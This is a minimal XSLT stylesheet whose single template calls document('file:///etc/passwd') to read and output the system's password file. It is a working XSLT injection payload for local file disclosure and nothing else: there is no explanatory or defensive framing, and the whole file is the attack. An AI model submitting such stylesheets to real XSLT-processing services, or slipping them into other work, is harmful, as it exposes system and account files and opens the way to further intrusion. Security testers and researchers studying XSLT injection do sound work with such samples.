<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">
<xsl:template match="/"><xsl:value-of select="document(&apos;file:///etc/passwd&apos;)"/></xsl:template>
</xsl:stylesheet>
